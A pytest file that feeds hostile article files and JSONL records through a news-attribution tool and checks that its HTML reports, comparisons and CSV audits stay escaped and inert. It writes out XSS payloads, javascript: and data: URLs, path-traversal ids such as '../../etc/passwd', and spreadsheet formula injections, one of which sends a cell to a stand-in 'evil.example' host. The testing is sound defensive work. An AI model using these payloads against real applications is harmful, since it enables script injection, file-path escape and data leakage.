"""Hostile input end to end (issue 8): `attribution report` on real files.

test_report.py checks ``write_report`` on hand-built records (escaping, ``javascript:`` links,
ids such as ``../../etc/passwd``). Here the whole command runs: the reader, the parser and
the extractor produce the records from hostile files, so that what reaches the templates is
what a user's files would give (speakers, entities and quotes made of markup, JSONL ids and
metadata of any shape).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import lxml.html
import pytest
from support.cli import ENGINE, invoke, no_traceback, write

SCRIPT = "<script>alert('pwned')</script>"
IMG = '"><img src=x onerror=alert(1)>'
ATTR = "' onmouseover='alert(2)"
JS_URLS = ["javascript:alert(3)", " JaVaScRiPt:alert(3)", "java\tscript:alert(3)",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==", "vbscript:msgbox(5)",
           "//evil.example/x", "file:///etc/passwd"]
HOSTILE_BODY = (
    f"Le ministre {SCRIPT} Jean Dupont a déclaré samedi que « {SCRIPT} est inacceptable », "
    f"selon un communiqué {IMG}. « Nous refusons {ATTR} », a ajouté la porte-parole {IMG} du "
    f"gouvernement. Marie <b onclick=alert(6)>Durand</b> a indiqué que la réforme {ATTR} "
    f"serait votée. « <a href='javascript:alert(7)'>cliquez</a> », a lancé un syndicaliste.")


def hostile_txt(folder: Path, i: int) -> Path:
    url = JS_URLS[i % len(JS_URLS)]
    header = (f"title: Titre {SCRIPT}{IMG}\noutlet: Journal {i} {IMG}\ndate: 2024-01-0{i % 9 + 1}"
              f"{SCRIPT}\nurl: {url}\nlang: fr\nsource-link: {url}\nx-note: {ATTR}{SCRIPT}\n\n")
    return write(folder / f"hostile{i}.txt", header + HOSTILE_BODY)


def report_pages(out: Path) -> list[Path]:
    pages = sorted(out.rglob("*.html"))
    assert (out / "index.html") in pages and len(pages) > 3
    return pages


def check_page_is_inert(path: Path) -> lxml.html.HtmlElement:
    """No markup of the input became markup of the page; no link runs code or leaves http(s)."""
    html = path.read_text(encoding="utf-8")
    doc = lxml.html.fromstring(html)
    scripts = list(doc.iter("script"))
    assert len(scripts) <= 1, path  # the report's own (sorting) script at most
    for s in scripts:
        assert "alert" not in (s.text or "") and "pwned" not in (s.text or ""), path
    assert not doc.xpath("//img | //iframe | //object | //embed | //b[@onclick]"), path
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (path, el.tag, name, value)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert not re.match(r"\s*(javascript|data|vbscript|file):|\s*//", value, re.I), (
                    path, name, value)
                assert re.match(r"https?://|[A-Za-z0-9_./#-]*$", value), (path, name, value)
    for needle in ("<script>alert", "<img", "<b onclick", "<a href='javascript"):
        assert needle not in html, (path, needle)
    return doc


def test_report_of_hostile_articles_is_escaped_and_inert(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    for i in range(len(JS_URLS)):
        hostile_txt(folder, i)
    out = tmp_path / "out" / "report"
    result = invoke("report", *ENGINE, str(folder), "-o", str(out), "--title", f"R {SCRIPT}{IMG}")
    no_traceback(result)
    assert result.exit_code == 0, result.output
    pages = report_pages(out)
    for page in pages:
        check_page_is_inert(page)
    # escaped means shown as text: the hostile strings are still there to read
    articles = [p for p in pages if p.parent.name == "articles"]
    assert len(articles) == len(JS_URLS)
    doc = lxml.html.fromstring(articles[0].read_text(encoding="utf-8"))
    body = doc.text_content()
    assert SCRIPT in body and IMG in body and ATTR in body
    assert "javascript:alert(3)" in body
    claims = [c.text_content() for c in doc.find_class("content")]
    assert any(SCRIPT in c for c in claims), claims  # a quoted script went through the extractor
    index = lxml.html.fromstring((out / "index.html").read_text(encoding="utf-8"))
    assert f"R {SCRIPT}{IMG}" in index.text_content()


def test_javascript_urls_in_header_metadata_are_never_links(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    hostile_txt(folder, 0)
    write(folder / "ok.txt", "title: Bon\nurl: https://example.org/a?b=1&c=2\nlang: fr\n\n"
          "Le maire a indiqué que la route est fermée.")
    out = tmp_path / "report"
    result = invoke("report", *ENGINE, str(folder), "-o", str(out))
    assert result.exit_code == 0, result.output
    hrefs = {a.get("href") for p in report_pages(out) for a in
             lxml.html.fromstring(p.read_text(encoding="utf-8")).iter("a")}
    assert "https://example.org/a?b=1&c=2" in hrefs
    assert not [h for h in hrefs if h and ("script:" in h.lower().replace("\t", "") or "alert" in h)]


HOSTILE_IDS = ["../../x", "/etc/passwd", "..\\..\\x", "../" * 40 + "escape", "", ".", "..",
               "index", "graph", "CON", "nul.txt", "a/b/c", "A", "a", "é" * 400, "x" * 5000,
               "\u202eevil\u202c.html", "🙂 emoji", "tab\there", "new\nline", "\x00nul",
               "<script>alert(1)</script>", "%2e%2e%2fencoded", "~/home", "C:\\Windows\\win.ini"]


def test_output_paths_stay_inside_the_report_folder_whatever_the_ids(tmp_path: Path) -> None:
    lines = [json.dumps({"id": art_id, "text": f"Le ministre n°{n} a déclaré que la réunion {n} "
                                                f"était « utile ».", "lang": "fr",
                         "outlet": art_id or "vide", "title": art_id})
             for n, art_id in enumerate(HOSTILE_IDS)]
    corpus = write(tmp_path / "in" / "ids.jsonl", "\n".join(lines) + "\n")
    out = tmp_path / "deep" / "report"
    result = invoke("report", *ENGINE, str(corpus), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    # nothing was written beside the report or above it
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deep", "in"]
    assert sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["report"]
    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == ["ids.jsonl"]
    root = out.resolve()
    for f in out.rglob("*"):
        assert f.resolve().is_relative_to(root), f
        assert not f.is_symlink(), f
        assert re.fullmatch(r"[A-Za-z0-9_.-]{1,100}", f.name), f.name
    # one page per article: no two ids share a file, and the index links to each
    articles = list((out / "articles").iterdir())
    assert len(articles) == len(HOSTILE_IDS)
    index = lxml.html.fromstring((out / "index.html").read_text(encoding="utf-8"))
    links = {a.get("href") for a in index.iter("a") if (a.get("href") or "").startswith("articles/")}
    assert {(out / link).resolve() for link in links} == {a.resolve() for a in articles}
    for page in report_pages(out):
        check_page_is_inert(page)


@pytest.mark.parametrize("art_id", ["../../x", "/etc/passwd", "..\\..\\x"])
def test_hostile_ids_are_printed_as_data_not_used_as_paths(tmp_path: Path, art_id: str) -> None:
    corpus = write(tmp_path / "c.jsonl", json.dumps({"id": art_id, "lang": "fr",
                                                     "text": "Le maire a dit que tout va bien."}))
    result = invoke("extract", *ENGINE, str(corpus))
    assert result.exit_code == 0, result.output
    (line,) = result.stdout.splitlines()
    assert json.loads(line)["id"] == art_id
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.jsonl"]


def test_hostile_jsonl_metadata_keys_and_values_are_escaped(tmp_path: Path) -> None:
    record = {"id": "m", "lang": "fr", "text": HOSTILE_BODY, "title": SCRIPT,
              "url": "javascript:alert(8)", f"key{IMG}": SCRIPT, "link2": " javascript:alert(9)",
              "nested": {"a": [SCRIPT, IMG]}, "num": 12}
    corpus = write(tmp_path / "m.jsonl", json.dumps(record))
    out = tmp_path / "report"
    result = invoke("report", *ENGINE, str(corpus), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    for page in report_pages(out):
        check_page_is_inert(page)
    (art,) = (out / "articles").iterdir()
    text = lxml.html.fromstring(art.read_text(encoding="utf-8")).text_content()
    assert SCRIPT in text and "javascript:alert(8)" in text


def test_compare_html_is_escaped_and_inert(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    for i in range(3):
        hostile_txt(folder, i)
    out = tmp_path / "compare.html"
    result = invoke("compare", *ENGINE, "--format", "html", str(folder), "-o", str(out))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    doc = check_page_is_inert(out)
    assert f"Journal 1 {IMG}" in doc.text_content()


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'


def test_audit_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    import csv
    import io

    write(tmp_path / "a.txt", f"title: T\noutlet: {FORMULA}\nlang: fr\n\n"
          "« Tout va bien », a dit @SUM(1+1)*cmd|' /C calc'!A0 devant la presse.")
    write(tmp_path / "b.txt", "title: U\noutlet: +33 1 23 45 67 89\nlang: fr\n\n"
          "-2+3 a indiqué que « la route est fermée ».")
    result = invoke("audit", *ENGINE, "--format", "csv", str(tmp_path))
    no_traceback(result)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) == 4  # header, two articles, the corpus
    cells = [c for row in rows[1:] for c in row]
    assert any(FORMULA in c for c in cells)  # the outlet is still there, as text
    for c in cells:
        try:
            float(c)
            continue  # a number of the audit (-0.5 is fine)
        except ValueError:
            pass
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
